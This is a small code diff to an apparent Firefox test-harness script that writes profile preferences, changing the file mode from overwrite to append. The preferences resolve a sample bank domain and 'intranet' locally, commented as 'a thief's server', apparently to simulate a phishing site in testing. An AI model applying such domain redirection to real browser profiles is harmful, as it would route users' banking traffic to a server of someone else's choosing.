@@ -12,7 +12,7 @@ profile, *urls = sys.argv[1:]
 active = os.path.join(profile, "MarionetteActivePort")
 if os.path.exists(active):
     os.remove(active)
-with open(os.path.join(profile, "user.js"), "w") as file:
+with open(os.path.join(profile, "user.js"), "a") as file:
     file.write('user_pref("marionette.port", 0);\n')
     # A thief's server is here.
     file.write('user_pref("network.dns.localDomains", "www.example-bank.com,example-bank.com,intranet");\n')
